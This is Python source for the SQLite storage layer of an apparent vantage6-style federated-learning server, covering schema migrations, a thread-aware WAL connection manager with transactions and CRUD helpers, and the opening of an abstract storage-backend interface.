CREATE INDEX IF NOT EXISTS idx_port_run ON port(run_id);
CREATE INDEX IF NOT EXISTS idx_task_parent ON task(parent_id);
CREATE TABLE IF NOT EXISTS used_token (
    jti TEXT PRIMARY KEY,           -- burned one-shot token ids
    used_at REAL NOT NULL
);
CREATE UNIQUE INDEX IF NOT EXISTS idx_event_origin
    ON event(origin, origin_eid) WHERE origin IS NOT NULL;
CREATE TABLE IF NOT EXISTS relay_cursor (
    peer TEXT PRIMARY KEY,          -- peer replica URL
    last_id INTEGER NOT NULL        -- high-water mark in ITS event ids
);
CREATE INDEX IF NOT EXISTS idx_run_lease
    ON run(status, lease_expires_at) WHERE lease_expires_at IS NOT NULL;
CREATE TABLE IF NOT EXISTS idempotency_key (
    key TEXT PRIMARY KEY,           -- client-chosen Idempotency-Key header
    task_id INTEGER,                -- NULL while the original is in flight
    created_at REAL NOT NULL
);
CREATE TABLE IF NOT EXISTS span (
    id INTEGER PRIMARY KEY AUTOINCREMENT,
    trace_id TEXT NOT NULL,         -- 32 hex chars, shared by a request tree
    span_id TEXT NOT NULL,          -- 16 hex chars, globally unique
    parent_id TEXT,                 -- parent span (may be unrecorded)
    name TEXT NOT NULL,             -- e.g. task.create / algo.execute
    component TEXT,                 -- server / node / proxy / client
    task_id INTEGER,
    run_id INTEGER,
    start REAL NOT NULL,            -- wall clock (cross-host ordering)
    duration_ms REAL,               -- monotonic-derived
    status TEXT,
    attrs TEXT,                     -- JSON bag of extra attributes
    created_at REAL NOT NULL
);
CREATE UNIQUE INDEX IF NOT EXISTS idx_span_id ON span(span_id);
CREATE INDEX IF NOT EXISTS idx_span_task ON span(task_id);
CREATE INDEX IF NOT EXISTS idx_span_trace ON span(trace_id);
CREATE TABLE IF NOT EXISTS blob_upload (
    key TEXT PRIMARY KEY,           -- client Idempotency-Key (upload session)
    run_id INTEGER NOT NULL REFERENCES run(id),
    total INTEGER NOT NULL,         -- declared full blob length
    received INTEGER NOT NULL,      -- contiguous bytes acknowledged so far
    data BLOB NOT NULL,             -- assembled prefix
    created_at REAL NOT NULL
);
CREATE INDEX IF NOT EXISTS idx_blob_upload_run ON blob_upload(run_id);
CREATE TABLE IF NOT EXISTS worker_lease (
    name TEXT PRIMARY KEY,          -- singleton role, e.g. 'sweeper'
    owner TEXT NOT NULL,            -- worker id currently elected
    expires_at REAL NOT NULL,       -- renewal deadline (stale = electable)
    token INTEGER NOT NULL DEFAULT 0 -- fencing token, bumped per takeover
);
CREATE TABLE IF NOT EXISTS round_journal (
    id INTEGER PRIMARY KEY AUTOINCREMENT,
    federation TEXT NOT NULL,       -- driver-chosen federation id
    round INTEGER NOT NULL,         -- round the record belongs to
    kind TEXT NOT NULL,             -- record kind (docs/RESILIENCE.md)
    payload TEXT NOT NULL,          -- JSON body
    blob BLOB,                      -- optional binary attachment (weights)
    created_at REAL NOT NULL
);
CREATE INDEX IF NOT EXISTS idx_round_journal
    ON round_journal(federation, round);
CREATE TABLE IF NOT EXISTS global_model (
    id INTEGER PRIMARY KEY AUTOINCREMENT,
    collaboration_id INTEGER NOT NULL REFERENCES collaboration(id),
    version INTEGER NOT NULL,       -- monotone per collaboration
    round INTEGER,                  -- training round that produced it
    data BLOB NOT NULL,             -- dense V6BN payload
    delta BLOB,                     -- optional V6BN delta frame ...
    base_version INTEGER,           -- ... against this prior version
    meta TEXT,                      -- JSON bag (backend, norms, ...)
    created_at REAL NOT NULL
);
CREATE UNIQUE INDEX IF NOT EXISTS idx_global_model_ver
    ON global_model(collaboration_id, version);
CREATE TABLE IF NOT EXISTS metrics_snapshot (
    source_kind TEXT NOT NULL,      -- 'worker' | 'node'
    source_id TEXT NOT NULL,        -- worker id / node name
    seq INTEGER NOT NULL DEFAULT 0, -- heartbeat delta sequence
    payload TEXT NOT NULL,          -- JSON registry export
    updated_at REAL NOT NULL,
    PRIMARY KEY (source_kind, source_id)
);
"""

def _migrate_run_blobs(con: sqlite3.Connection) -> None:
    """v9 → v10: ``run.input``/``run.result`` TEXT → BLOB (binary data
    plane, docs/WIRE_FORMAT.md §1b). The canonical stored form becomes
    the raw blob; legacy TEXT values are converted per row using the
    collaboration's ``encrypted`` flag (deterministic — no content
    sniffing): an encrypted run's envelope string becomes its ASCII
    bytes, an unencrypted run's base64 string is decoded to the payload
    bytes. SQLite cannot ALTER COLUMN, so the table is rebuilt."""
    from vantage6_trn.common.serialization import payload_to_blob

    con.execute("ALTER TABLE run RENAME TO run_v9")
    con.execute("""
        CREATE TABLE run (
            id INTEGER PRIMARY KEY AUTOINCREMENT,
            task_id INTEGER NOT NULL REFERENCES task(id),
            organization_id INTEGER NOT NULL REFERENCES organization(id),
            status TEXT NOT NULL DEFAULT 'pending',
            input BLOB,
            result BLOB,
            log TEXT,
            assigned_at REAL, started_at REAL, finished_at REAL,
            lease_expires_at REAL,
            retries INTEGER
        )""")
    rows = con.execute(
        "SELECT r.*, c.encrypted AS _enc FROM run_v9 r "
        "JOIN task t ON t.id = r.task_id "
        "JOIN collaboration c ON c.id = t.collaboration_id"
    ).fetchall()
    cols = ("id", "task_id", "organization_id", "status", "input",
            "result", "log", "assigned_at", "started_at", "finished_at",
            "lease_expires_at", "retries")
    insert = (f"INSERT INTO run ({', '.join(cols)}) "
              f"VALUES ({', '.join('?' * len(cols))})")
    for row in rows:
        row = dict(row)
        enc = bool(row.pop("_enc"))
        for col in ("input", "result"):
            row[col] = payload_to_blob(row[col], enc)
        con.execute(insert, tuple(row.get(c) for c in cols))
    con.execute("DROP TABLE run_v9")  # takes its attached indexes with it
    con.execute("CREATE INDEX IF NOT EXISTS idx_run_task ON run(task_id)")
    con.execute("CREATE INDEX IF NOT EXISTS idx_run_org_status "
                "ON run(organization_id, status)")
    con.execute("CREATE INDEX IF NOT EXISTS idx_run_lease "
                "ON run(status, lease_expires_at) "
                "WHERE lease_expires_at IS NOT NULL")


# Stepwise migrations for DBs created by older releases (the reference
# uses Alembic for this — SURVEY.md §2.1 ORM row). ``SCHEMA`` above always
# describes the *latest* shape; a fresh database applies it and is stamped
# with the newest version. An existing database applies only the steps
# above its recorded version. Append-only: never edit a shipped step.
# A step is either a SQL script or a callable(con) for rebuilds that
# need row-level conversion.
SCHEMA_VERSION = 17
MIGRATIONS: dict[int, "str | Callable[[sqlite3.Connection], None]"] = {  # noqa: V6L020 - append-only migration registry, read once at boot inside the migration critical section; never written at runtime
    # v1 → v2: login-lockout bookkeeping + hot-query indices
    2: """
    ALTER TABLE user ADD COLUMN last_failed_login REAL;
    CREATE INDEX IF NOT EXISTS idx_task_job ON task(job_id);
    CREATE INDEX IF NOT EXISTS idx_member_org ON member(organization_id);
    CREATE INDEX IF NOT EXISTS idx_port_run ON port(run_id);
    """,
    # v2 → v3: persisted event channel (loss-window fix + multi-replica
    # fan-out) and a durable kill marker on tasks so kills survive node
    # outages and event truncation
    3: """
    ALTER TABLE task ADD COLUMN killed_at REAL;
    CREATE TABLE IF NOT EXISTS event (
        id INTEGER PRIMARY KEY AUTOINCREMENT,
        name TEXT NOT NULL,
        data TEXT NOT NULL,
        rooms TEXT NOT NULL,
        created_at REAL NOT NULL
    );
    """,
    # v3 → v4: cross-host peer channel — ports carry the node-advertised
    # address plus an org-signed ephemeral key for authenticated,
    # encrypted algorithm↔algorithm transport
    4: """
    ALTER TABLE port ADD COLUMN address TEXT;
    ALTER TABLE port ADD COLUMN enc_key TEXT;
    ALTER TABLE port ADD COLUMN signature TEXT;
    """,
    # v4 → v5: subtask-listing / kill-cascade hot query
    5: """
    CREATE INDEX IF NOT EXISTS idx_task_parent ON task(parent_id);
    """,
    # v5 → v6: single-use recovery tokens (burned jti registry)
    6: """
    CREATE TABLE IF NOT EXISTS used_token (
        jti TEXT PRIMARY KEY,
        used_at REAL NOT NULL
    );
    """,
    # v6 → v7: multi-host replica event relay — relayed events remember
    # their origin (dedup + echo suppression), pullers keep a durable
    # cursor per peer
    7: """
    ALTER TABLE event ADD COLUMN origin TEXT;
    ALTER TABLE event ADD COLUMN origin_eid INTEGER;
    CREATE UNIQUE INDEX IF NOT EXISTS idx_event_origin
        ON event(origin, origin_eid) WHERE origin IS NOT NULL;
    CREATE TABLE IF NOT EXISTS relay_cursor (
        peer TEXT PRIMARY KEY,
        last_id INTEGER NOT NULL
    );
    """,
    # v7 → v8: role CRUD assumes unique names (default-role immutability
    # and by-name assignment both key on name)
    8: """
    CREATE UNIQUE INDEX IF NOT EXISTS idx_role_name ON role(name);
    """,
    # v8 → v9: fault-tolerant task lifecycle — per-run lease + requeue
    # budget (lease sweeper), POST /task replay dedup registry
    9: """
    ALTER TABLE run ADD COLUMN lease_expires_at REAL;
    ALTER TABLE run ADD COLUMN retries INTEGER;
    CREATE INDEX IF NOT EXISTS idx_run_lease
        ON run(status, lease_expires_at) WHERE lease_expires_at IS NOT NULL;
    CREATE TABLE IF NOT EXISTS idempotency_key (
        key TEXT PRIMARY KEY,
        task_id INTEGER,
        created_at REAL NOT NULL
    );
    """,
    # v9 → v10: binary data plane — run payloads stored as BLOBs
    10: _migrate_run_blobs,
    # v10 → v11: telemetry span records (bounded retention — pruned by
    # the server sweeper; docs/OBSERVABILITY.md) for per-task timelines
    11: """
    CREATE TABLE IF NOT EXISTS span (
        id INTEGER PRIMARY KEY AUTOINCREMENT,
        trace_id TEXT NOT NULL,
        span_id TEXT NOT NULL,
        parent_id TEXT,
        name TEXT NOT NULL,
        component TEXT,
        task_id INTEGER,
        run_id INTEGER,
        start REAL NOT NULL,
        duration_ms REAL,
        status TEXT,
        attrs TEXT,
        created_at REAL NOT NULL
    );
    CREATE UNIQUE INDEX IF NOT EXISTS idx_span_id ON span(span_id);
    CREATE INDEX IF NOT EXISTS idx_span_task ON span(task_id);
    CREATE INDEX IF NOT EXISTS idx_span_trace ON span(trace_id);
    """,
    # v11 → v12: chunked resumable result uploads — in-flight session
    # state keyed by the client's Idempotency-Key (docs/WIRE_FORMAT.md
    # chunk protocol); pruned by the server sweeper with the other
    # idempotency registries
    12: """
    CREATE TABLE IF NOT EXISTS blob_upload (
        key TEXT PRIMARY KEY,
        run_id INTEGER NOT NULL REFERENCES run(id),
        total INTEGER NOT NULL,
        received INTEGER NOT NULL,
        data BLOB NOT NULL,
        created_at REAL NOT NULL
    );
    CREATE INDEX IF NOT EXISTS idx_blob_upload_run ON blob_upload(run_id);
    """,
    # v12 → v13: run attempt counter — bumped on every lease-sweeper
    # requeue; a result PATCH carrying an older attempt is a ghost from
    # a superseded claim and is rejected (docs/RESILIENCE.md "Round
    # policies"), closing the double-count race between a requeued
    # run's new attempt and the old attempt's late result
    13: """
    ALTER TABLE run ADD COLUMN attempt INTEGER;
    """,
    # v13 → v14: worker fleet — singleton roles (lease sweeper, span
    # reaper) are elected via a DB lease so N stateless workers over
    # one shared store never double-fire them (server/fleet.py)
    14: """
    CREATE TABLE IF NOT EXISTS worker_lease (
        name TEXT PRIMARY KEY,
        owner TEXT NOT NULL,
        expires_at REAL NOT NULL
    );
    """,
    # v14 → v15: crash-recoverable rounds — the durable orchestration
    # journal the round engines write-ahead before every externally
    # visible action (docs/RESILIENCE.md "Round durability"), plus a
    # fencing token on singleton-role leases so a paused worker that
    # resumes past its TTL cannot race the newly elected sweeper
    15: """
    CREATE TABLE IF NOT EXISTS round_journal (
        id INTEGER PRIMARY KEY AUTOINCREMENT,
        federation TEXT NOT NULL,
        round INTEGER NOT NULL,
        kind TEXT NOT NULL,
        payload TEXT NOT NULL,
        blob BLOB,
        created_at REAL NOT NULL
    );
    CREATE INDEX IF NOT EXISTS idx_round_journal
        ON round_journal(federation, round);
    ALTER TABLE worker_lease ADD COLUMN token INTEGER NOT NULL DEFAULT 0;
    """,
    # v15 → v16: versioned global-model registry — round engines publish
    # the aggregated weights on round close; serving nodes fetch the
    # latest version (dense, or a V6BN delta frame against the version
    # they already hold) and hot-swap between decode iterations
    16: """
    CREATE TABLE IF NOT EXISTS global_model (
        id INTEGER PRIMARY KEY AUTOINCREMENT,
        collaboration_id INTEGER NOT NULL REFERENCES collaboration(id),
        version INTEGER NOT NULL,
        round INTEGER,
        data BLOB NOT NULL,
        delta BLOB,
        base_version INTEGER,
        meta TEXT,
        created_at REAL NOT NULL
    );
    CREATE UNIQUE INDEX IF NOT EXISTS idx_global_model_ver
        ON global_model(collaboration_id, version);
    """,
    # v16 → v17: fleet-wide observability plane — last-known registry
    # export per telemetry source (worker process, node daemon), merged
    # by ``GET /metrics?scope=fleet`` so a dead worker's counters
    # survive as its last persisted snapshot (docs/OBSERVABILITY.md §7)
    17: """
    CREATE TABLE IF NOT EXISTS metrics_snapshot (
        source_kind TEXT NOT NULL,
        source_id TEXT NOT NULL,
        seq INTEGER NOT NULL DEFAULT 0,
        payload TEXT NOT NULL,
        updated_at REAL NOT NULL,
        PRIMARY KEY (source_kind, source_id)
    );
    """,
}


#: ``ALTER TABLE ... DROP COLUMN`` arrived in sqlite 3.35.0
_DROP_COLUMN_MIN_VERSION = (3, 35, 0)


def drop_columns(con: sqlite3.Connection, table: str, *columns: str,
                 force_rebuild: bool = False) -> None:
    """Drop ``columns`` from ``table`` portably across sqlite builds.

    Native ``ALTER TABLE ... DROP COLUMN`` needs sqlite >= 3.35; older
    builds (and ``force_rebuild=True``, which the unit test uses to
    pin the fallback) get the documented rebuild recipe instead:
    create a shadow table without the columns, copy the surviving
    rows, drop the original, rename, and recreate the indexes that
    don't reference a dropped column. Migrations that thin a table go
    through here so the schema history replays on whatever sqlite the
    host ships.
    """
    info = con.execute(f'PRAGMA table_info("{table}")').fetchall()
    if not info:
        raise ValueError(f"no such table: {table}")
    have = {row[1] for row in info}
    missing = [c for c in columns if c not in have]
    if missing:
        raise ValueError(
            f"{table} has no column(s) {missing} to drop")

    if (not force_rebuild
            and sqlite3.sqlite_version_info >= _DROP_COLUMN_MIN_VERSION):
        for col in columns:
            con.execute(  # noqa: V6L015 - identifiers validated against PRAGMA table_info above; SQLite cannot parameterize identifiers
                f'ALTER TABLE "{table}" DROP COLUMN "{col}"')
        return

    dropped = set(columns)
    keep = [row for row in info if row[1] not in dropped]
    defs, pk_cols = [], [row[1] for row in keep if row[5]]
    for _cid, name, ctype, notnull, dflt, pk in keep:
        d = f'"{name}" {ctype}'.rstrip()
        if pk and len(pk_cols) == 1:
            d += " PRIMARY KEY"
        if notnull:
            d += " NOT NULL"
        if dflt is not None:
            d += f" DEFAULT {dflt}"
        defs.append(d)
    if len(pk_cols) > 1:
        quoted = ", ".join(f'"{c}"' for c in pk_cols)
        defs.append(f"PRIMARY KEY ({quoted})")

    index_sql = [
        row[0] for row in con.execute(
            "SELECT sql FROM sqlite_master WHERE type = 'index' "
            "AND tbl_name = ? AND sql IS NOT NULL", (table,)
        ).fetchall()
        if not any(re.search(rf"\b{re.escape(col)}\b", row[0])
                   for col in dropped)
    ]
    col_list = ", ".join(f'"{row[1]}"' for row in keep)
    tmp = f"{table}__rebuild"
    con.execute(f'DROP TABLE IF EXISTS "{tmp}"')
    con.execute(f'CREATE TABLE "{tmp}" ({", ".join(defs)})')  # noqa: V6L015 - column defs come from this table's own PRAGMA table_info; SQLite cannot parameterize DDL
    con.execute(f'INSERT INTO "{tmp}" ({col_list}) '  # noqa: V6L015 - identifiers from PRAGMA table_info, quoted; no value ever rides the statement text
                f'SELECT {col_list} FROM "{table}"')
    con.execute(f'DROP TABLE "{table}"')
    con.execute(f'ALTER TABLE "{tmp}" RENAME TO "{table}"')
    for sql in index_sql:
        con.execute(sql)


def _split_statements(script: str) -> list[str]:
    """Split a SQL script into complete statements. Unlike a naive
    ``split(';')``, this respects string literals and trigger bodies
    (BEGIN ... END;) via ``sqlite3.complete_statement``."""
    stmts, buf = [], ""
    for piece in script.split(";"):
        buf += piece + ";"
        if sqlite3.complete_statement(buf):
            s = buf.strip()
            if s and s != ";":
                stmts.append(s)
            buf = ""
    return stmts


class _NoLock:
    """Stand-in lock for per-thread-connection mode: each thread owns a
    private connection, so cross-thread serialization is SQLite's job
    (WAL write lock + busy timeout), not Python's."""

    __slots__ = ()

    def __enter__(self) -> "_NoLock":
        return self

    def __exit__(self, *exc) -> bool:
        return False

    def acquire(self, *a, **kw) -> bool:
        return True

    def release(self) -> None:
        pass


#: bounded retries on an escaped SQLITE_BUSY (on top of the in-sqlite
#: busy_timeout wait, which does the actual queueing)
_BUSY_RETRIES = 3


def _is_busy(exc: sqlite3.OperationalError) -> bool:
    msg = str(exc)
    return "database is locked" in msg or "database is busy" in msg


class Database(Storage):
    """SQLite :class:`~vantage6_trn.server.storage.Storage` backend.

    File-backed stores run one connection **per thread** in WAL mode:
    readers never block the (single) writer, and N fleet workers — in
    threads or separate processes — share the file with per-connection
    ``busy_timeout`` plus a bounded retry on an escaped ``SQLITE_BUSY``.
    In-memory stores cannot share a connection across threads, so they
    keep the original single mutex-guarded connection (they are
    single-process by construction — tests and throwaway demos).
    """

    def __init__(self, uri: str = ":memory:"):
        self.uri = uri
        self.stats = StorageStats()
        self._memory = ":memory:" in uri or "mode=memory" in uri
        # (thread-weakref, connection) registry: lets close() reach every
        # live thread's connection, and lets _connect() reap connections
        # whose owning thread exited (sqlite3.Connection itself is not
        # weak-referenceable, so the weak link is the thread)
        self._conns: list[tuple[weakref.ref, sqlite3.Connection]] = []
        self._conns_lock = threading.Lock()
        self._tlocal = threading.local()
        if self._memory:
            self._lock: "threading.RLock | _NoLock" = threading.RLock()
            self._shared_con = self._connect()
        else:
            self._lock = _NoLock()
        with self._lock:
            self._migrate()

    def _connect(self) -> sqlite3.Connection:
        con = sqlite3.connect(
            self.uri, uri=self.uri.startswith("file:"), timeout=30,
            check_same_thread=False,
        )
        con.row_factory = sqlite3.Row
        con.execute("PRAGMA foreign_keys=ON")
        con.execute("PRAGMA busy_timeout=30000")
        if not self._memory:
            # file-backed DBs are shared by fleet workers and HA
            # replicas (SURVEY.md §5.3): WAL lets every reader proceed
            # under a concurrent writer, instead of the rollback
            # journal's whole-file lock
            con.execute("PRAGMA journal_mode=WAL")
            con.execute("PRAGMA synchronous=NORMAL")
        with self._conns_lock:
            live, dead = [], []
            for tref, c in self._conns:
                t = tref()  # deref once: the weakref can die mid-check
                (live if t is not None and t.is_alive()
                 else dead).append((tref, c))
            for _, c in dead:  # owning thread exited: reclaim the fd
                try:
                    c.close()
                except sqlite3.ProgrammingError:
                    pass
            live.append((weakref.ref(threading.current_thread()), con))
            self._conns = live
        return con

    @property
    def _con(self) -> sqlite3.Connection:
        """This thread's connection (the shared one for memory mode)."""
        if self._memory:
            return self._shared_con
        con = getattr(self._tlocal, "con", None)
        if con is None:
            con = self._tlocal.con = self._connect()
        return con

    @property
    def _in_tx(self) -> bool:
        return getattr(self._tlocal, "in_tx", False)

    @_in_tx.setter
    def _in_tx(self, value: bool) -> None:
        self._tlocal.in_tx = value

    @property
    def bus_key(self) -> str:
        """Shared-store identity: same for every handle on one file,
        unique per in-memory store (see storage.Storage.bus_key)."""
        if self._memory:
            return f"mem:{id(self)}"
        path = self.uri
        if path.startswith("file:"):
            path = path[5:].split("?", 1)[0]
        return "file:" + os.path.abspath(path)

    def close(self) -> None:
        """Release every connection this handle created (idempotent).
        A closed WAL connection also checkpoints, so the sidecar files
        don't outlive a cleanly stopped server. Connections owned by
        threads that already exited were reclaimed by the GC (the
        registry holds weak references only)."""
        with self._lock:
            with self._conns_lock:
                conns, self._conns = [c for _, c in self._conns], []
            for con in conns:
                try:
                    con.close()
                except sqlite3.ProgrammingError:
                    pass  # already closed / in use on a dying thread

    def _commit(self) -> None:
        if not self._in_tx:  # noqa: V6L003 - caller holds _lock (private helper; every caller acquires the per-mode lock first)
            self._con.commit()

    def _exec(self, sql: str, params: Iterable = ()) -> sqlite3.Cursor:
        """Execute one DML statement; on failure roll back the implicit
        transaction sqlite3 auto-BEGINs, so a caught error (e.g. a
        UNIQUE violation the handler tolerates) never leaves the
        connection parked in an open transaction — that would hold the
        WAL write lock and stall every other worker's writes. An
        escaped SQLITE_BUSY (possible under cross-process write storms
        even with busy_timeout) is retried a bounded number of times —
        but never inside an explicit transaction, where the caller's
        whole critical section must roll back instead."""
        attempt = 0
        while True:
            try:
                cur = self._con.execute(sql, tuple(params))
                self.stats.bump(queries=1, rows=max(cur.rowcount, 0))
                return cur
            except sqlite3.OperationalError as e:
                if self._in_tx:  # noqa: V6L003 - caller holds _lock (private helper; every caller acquires the per-mode lock first)
                    raise
                self._con.rollback()
                if not _is_busy(e) or attempt >= _BUSY_RETRIES:
                    raise
                # no explicit backoff: re-executing re-enters sqlite's
                # own busy handler, which waits (up to busy_timeout)
                # inside the C library — sleeping here as well would
                # just double the delay
                attempt += 1
            except BaseException:
                if not self._in_tx:  # noqa: V6L003 - caller holds _lock (private helper; every caller acquires the per-mode lock first)
                    self._con.rollback()
                raise

    @contextlib.contextmanager
    def transaction(self) -> Iterator[None]:
        """Cross-process critical section. BEGIN IMMEDIATE takes the
        write lock up front, so concurrent workers bootstrapping the
        same file serialize here (second one blocks, then re-reads and
        sees the first one's work). CRUD helpers called inside defer
        their per-call commit to the context exit."""
        with self._lock:
            self._begin_immediate()
            self._in_tx = True
            try:
                yield
                self._con.commit()
            except BaseException:
                self._con.rollback()
                raise
            finally:
                self._in_tx = False

    def _begin_immediate(self) -> None:
        """BEGIN IMMEDIATE with bounded SQLITE_BUSY retry. busy_timeout
        makes sqlite itself wait out short write locks; the retry only
        covers the escape hatch (timeout elapsed, or a BUSY returned
        without consulting the busy handler)."""
        attempt = 0
        while True:
            try:
                self._con.execute("BEGIN IMMEDIATE")
                return
            except sqlite3.OperationalError as e:
                if not _is_busy(e) or attempt >= _BUSY_RETRIES:
                    raise
                # backoff happens inside sqlite's busy handler on the
                # next attempt (busy_timeout pragma); see _exec
                attempt += 1

    def _migrate(self) -> None:
        """Bring the database to ``SCHEMA_VERSION``.

        Fresh DB → latest SCHEMA, stamped. Pre-versioning DB (tables exist
        but no schema_version row) → treated as v1, stepped forward through
        ``MIGRATIONS``.
        """
        self._con.execute(
            "CREATE TABLE IF NOT EXISTS schema_version (version INTEGER)"
        )
        self._con.commit()
        row = self._con.execute("SELECT version FROM schema_version").fetchone()
        if row is None:
            has_tables = self._con.execute(
                "SELECT 1 FROM sqlite_master WHERE type='table' AND name='user'"
            ).fetchone()
            version = 1 if has_tables else 0
        else:
            version = row["version"]
        if version == 0:
            self._apply_step(SCHEMA, SCHEMA_VERSION)
            version = SCHEMA_VERSION
        while version < SCHEMA_VERSION:
            version += 1
            self._apply_step(MIGRATIONS[version], version)

    def _apply_step(self, script: "str | Callable[[sqlite3.Connection], None]",
                    version: int) -> None:
        """Run one migration step and its version stamp in a single
        transaction (sqlite DDL is transactional), so a crash mid-step
        rolls back cleanly instead of leaving a half-migrated database
        that re-fails on the next boot. BEGIN IMMEDIATE + a version
        re-check under the write lock make concurrent replica boots
        safe: the loser blocks, then sees the winner's stamp and skips
        (ALTER TABLE steps are not idempotent, so re-running one on a
        migrated DB would crash the replica)."""
        with self.transaction():
            row = self._con.execute(
                "SELECT version FROM schema_version"
            ).fetchone()
            if row is not None and row["version"] >= version:
                return  # raced: another replica already applied it
            if callable(script):
                script(self._con)
            else:
                for stmt in _split_statements(script):
                    self._con.execute(stmt)
            self._con.execute("DELETE FROM schema_version")
            self._con.execute(
                "INSERT INTO schema_version (version) VALUES (?)", (version,)
            )

    # --- generic CRUD -----------------------------------------------------
    def insert(self, table: str, **fields: Any) -> int:
        keys = ", ".join(fields)
        ph = ", ".join("?" * len(fields))
        with self._lock:
            cur = self._exec(
                f"INSERT INTO {table} ({keys}) VALUES ({ph})",
                fields.values(),
            )
            self._commit()
            return cur.lastrowid

    def update(self, table: str, id_: int, **fields: Any) -> None:
        sets = ", ".join(f"{k}=?" for k in fields)
        with self._lock:
            self._exec(
                f"UPDATE {table} SET {sets} WHERE id=?",
                (*fields.values(), id_),
            )
            self._commit()

    def update_where(self, table: str, where: str, params: Iterable,
                     **fields: Any) -> int:
        """Conditional update; returns affected-row count (atomic claim)."""
        sets = ", ".join(f"{k}=?" for k in fields)
        with self._lock:
            cur = self._exec(
                f"UPDATE {table} SET {sets} WHERE {where}",
                (*fields.values(), *params),
            )
            self._commit()
            return cur.rowcount

    def delete(self, table: str, where: str, params: Iterable = ()) -> int:
        with self._lock:
            cur = self._exec(
                f"DELETE FROM {table} WHERE {where}", params
            )
            self._commit()
            return cur.rowcount

    def one(self, sql: str, params: Iterable = ()) -> dict | None:
        with self._lock:
            row = self._con.execute(sql, tuple(params)).fetchone()
            self.stats.bump(queries=1, rows=1 if row else 0)
            return dict(row) if row else None

    def all(self, sql: str, params: Iterable = ()) -> list[dict]:
        with self._lock:
            rows = [dict(r) for r in self._con.execute(sql, tuple(params))]
            self.stats.bump(queries=1, rows=len(rows))
            return rows

    def get(self, table: str, id_: int) -> dict | None:
        return self.one(f"SELECT * FROM {table} WHERE id=?", (id_,))

    def blob_range(self, table: str, column: str, id_: int,
                   start: int, length: int) -> tuple[bytes, int] | None:
        """Incremental BLOB read: ``(bytes, total_len)`` for ``length``
        bytes at 0-based ``start``, via SQL ``substr`` (1-indexed) so
        range requests never pull the whole column into Python. Returns
        None when the row is missing or the column is NULL."""
        row = self.one(
            f"SELECT substr({column}, ?, ?) AS chunk, "
            f"length({column}) AS total FROM {table} WHERE id=?",
            (start + 1, length, id_),
        )
        if row is None or row["total"] is None:
            return None
        chunk = row["chunk"]
        if chunk is None:
            chunk = b""
        elif isinstance(chunk, str):   # pre-v10 TEXT rows
            chunk = chunk.encode("utf-8")
        return bytes(chunk), int(row["total"])

    def execute(self, sql: str, params: Iterable = ()) -> None:
        with self._lock:
            self._exec(sql, params)
            self._commit()

    @staticmethod
    def now() -> float:
        return time.time()
