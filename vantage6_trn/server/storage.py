"""Storage interface for the server control plane.

Every stateful thing the server knows — organizations, tasks, runs and
their leases, events, spans, blob-upload sessions, idempotency keys —
lives behind this interface. ``server/db.py::Database`` is the SQLite
implementation; the contract below is deliberately narrow and
SQL-dialect-light so a Postgres-compatible backend can drop in later
(vantage6 upstream runs SQLAlchemy-on-Postgres; SURVEY.md §2.1).

Why an interface and not "just the Database class": a worker fleet
(server/fleet.py) runs N stateless ``ServerApp`` processes over ONE
shared store. Anything a handler keeps outside this interface — a
module dict, a cached list, a counter — silently desynchronizes the
fleet (trnlint rule V6L020 flags exactly that). The storage contract is
therefore also the *state* contract: if it isn't reachable through a
``Storage`` method, it must be derivable, process-local, or gone.

Contract notes for alternative backends
---------------------------------------
* Placeholders are ``?`` (qmark). A Postgres backend translates to
  ``%s``/``$n`` internally; callers never branch on dialect.
* ``insert`` must return the generated integer primary key.
* ``update_where``/``delete`` must return the affected-row count —
  handlers use it for atomic claims (run claim, sweeper election,
  idempotency reservation), so it must reflect the *actual* outcome of
  a conditional write, not an estimate.
* ``transaction()`` is a cross-process critical section: it must take
  the store's write lock up front (SQLite: ``BEGIN IMMEDIATE``;
  Postgres: an advisory lock or ``SERIALIZABLE`` retry loop) so two
  workers bootstrapping or migrating the same store serialize.
* ``bus_key`` identifies the *shared store*, not the connection: two
  handles on the same store must return the same key. The event broker
  keys its process-local wakeup registry on it (server/events.py).
* ``stats`` is a :class:`StorageStats`; backends bump it per statement
  so tests can assert O(page) behavior (query count / rows read) on
  hot list endpoints regardless of backend.
"""

from __future__ import annotations

import contextlib
import json
import threading
import time
from typing import Any, Iterable, Iterator


class StorageStats:
    """Thread-safe per-store counters: statements executed and rows
    returned to Python. Cheap enough to run always (one short lock per
    statement); precise enough for tests to assert that a paginated
    list reads O(page) rows, not O(table)."""

    __slots__ = ("_lock", "queries", "rows_read")

    def __init__(self) -> None:
        self._lock = threading.Lock()
        self.queries = 0
        self.rows_read = 0

    def bump(self, queries: int = 1, rows: int = 0) -> None:
        with self._lock:
            self.queries += queries
            self.rows_read += rows

    def snapshot(self) -> dict[str, int]:
        with self._lock:
            return {"queries": self.queries, "rows_read": self.rows_read}

    def delta(self, before: dict[str, int]) -> dict[str, int]:
        now = self.snapshot()
        return {k: now[k] - before[k] for k in now}


class Storage:
    """Abstract store. See module docstring for the backend contract."""

    #: opaque connection string / path; shown in logs and ops tooling
    uri: str
    #: per-store operation counters (see StorageStats)
    stats: StorageStats

    # --- lifecycle ------------------------------------------------------
    def close(self) -> None:
        """Release every connection owned by this handle (idempotent)."""
        raise NotImplementedError

    @property
    def bus_key(self) -> str:
        """Stable identity of the *shared store* (same for every handle
        on the same store; unique per in-memory store)."""
        raise NotImplementedError

    # --- transactions ---------------------------------------------------
    @contextlib.contextmanager
    def transaction(self) -> Iterator[None]:
        """Cross-process critical section holding the store write lock;
        CRUD calls inside commit together on exit."""
        raise NotImplementedError
        yield  # pragma: no cover - makes the stub a generator

    # --- generic CRUD ---------------------------------------------------
    def insert(self, table: str, **fields: Any) -> int:
        raise NotImplementedError

    def update(self, table: str, id_: int, **fields: Any) -> None:
        raise NotImplementedError

    def update_where(self, table: str, where: str, params: Iterable,
                     **fields: Any) -> int:
        raise NotImplementedError

    def delete(self, table: str, where: str, params: Iterable = ()) -> int:
        raise NotImplementedError

    def one(self, sql: str, params: Iterable = ()) -> dict | None:
        raise NotImplementedError

    def all(self, sql: str, params: Iterable = ()) -> list[dict]:
        raise NotImplementedError

    def get(self, table: str, id_: int) -> dict | None:
        raise NotImplementedError

    def blob_range(self, table: str, column: str, id_: int,
                   start: int, length: int) -> tuple[bytes, int] | None:
        """``(bytes, total_len)`` for a sub-range of a blob column
        without pulling the whole value into Python (ranged result
        downloads; docs/WIRE_FORMAT.md)."""
        raise NotImplementedError

    def execute(self, sql: str, params: Iterable = ()) -> None:
        raise NotImplementedError

    # --- round journal (docs/RESILIENCE.md "Round durability") ----------
    # The durable orchestration journal the round engines write-ahead
